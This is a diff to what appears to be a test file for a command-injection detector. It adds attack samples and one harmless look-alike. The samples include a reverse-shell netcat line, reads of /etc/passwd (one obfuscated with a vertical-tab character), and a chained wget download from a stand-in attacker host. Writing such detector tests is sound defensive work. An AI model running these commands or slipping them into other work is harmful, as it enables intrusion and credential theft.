@@ -33,6 +33,8 @@ ATTACKS = [
     (b"nc -e /bin/sh 10.0.0.1 99", 6, "whole value", None),
     (b"cat /etc/passwd", 5, "whole value", None),
     (b"hello there; cat /etc/passwd", 5, "text", None),
+    (b"have a nice day && wget http://evil.example/a", 5, "text", None),
+    (b";cat\x0b/etc/passwd", 7, "start", None),
 ]
 
 
@@ -61,6 +63,7 @@ LOOK_ALIKES = [
     b"cost: $(5)",
     b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     b"see /usr/bin for programs",
+    b"<title>News &amp; more</title></channel>",
 ]
 
 
